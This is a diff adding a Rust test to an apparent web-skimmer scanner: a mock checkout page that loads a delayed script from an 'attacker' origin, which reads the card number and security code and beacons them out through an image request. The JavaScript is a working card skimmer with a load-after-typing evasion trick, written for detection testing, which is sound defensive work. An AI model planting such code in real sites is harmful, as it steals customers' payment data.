@@ -311,3 +311,42 @@ fn configured_payment_field_that_matches_nothing_is_reported() {
     assert_eq!(missing[0].severity, Severity::Medium);
     assert_eq!(report.pages[0].interaction.as_ref().unwrap().fields_typed.len(), 0, "interact = none types nothing");
 }
+
+/// A tag that loads the skimmer only once the card has been typed (a tag manager's delayed
+/// trigger): the skimmer listens for changes from then on, so only typing again wakes it.
+#[test]
+fn skimmer_loaded_after_the_typing_is_typed_to_again_and_caught() {
+    let shop = Shop::start_in_background().expect("start the test shop");
+    let attacker = shop.base(Origin::Attacker);
+    shop.set_resource(
+        Origin::Attacker,
+        "/late.js",
+        Resource::js(format!(
+            "(function(){{var n=document.getElementById('cc-number'),c=document.getElementById('cc-csc'),sent=0;\
+             function go(){{var d=n.value.replace(/\\D/g,'');if(!sent&&d.length>=15&&c.value.length>=3){{sent=1;new Image().src='{attacker}/late?c='+d;}}}}\
+             n.addEventListener('change',go);c.addEventListener('change',go);}})();"
+        )),
+    );
+    shop.set_resource(
+        Origin::Attacker,
+        "/late",
+        Resource::new("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
+    );
+    let body = format!(
+        "<h1>Pay</h1><form><input id=cc-number autocomplete=cc-number name=cardnumber>\
+         <input id=cc-exp autocomplete=cc-exp name=exp><input id=cc-csc autocomplete=cc-csc name=cvc></form>\
+         <script>(function wait(){{var n=document.getElementById('cc-number').value.replace(/\\D/g,''),c=document.getElementById('cc-csc').value;\
+         if(n.length>=15&&c.length>=3){{setTimeout(function(){{var s=document.createElement('script');s.src='{attacker}/late.js';document.head.appendChild(s);}},600);}}\
+         else setTimeout(wait,200);}})();</script>"
+    );
+    shop.set_resource(Origin::Shop, "/late-checkout", Resource::html(body));
+    let url = shop.url(Origin::Shop, "/late-checkout");
+    let ws = Workspace::with_page_config(shop, "late", &url, "interact = \"type\"\nsettle = \"300ms\"");
+    let (_, report) = ws.scan(&[]);
+    let host = ws.shop.host(Origin::Attacker);
+    let i = report.pages[0].interaction.as_ref().expect("interaction");
+    assert_eq!(i.retyped, 1, "{i:#?}");
+    let sent = ws.shop.requests_to(Origin::Attacker);
+    assert!(sent.iter().any(|r| r.path_only() == "/late"), "the skimmer did not send: {sent:#?}");
+    any_exfiltration(&report, &host, "image");
+}
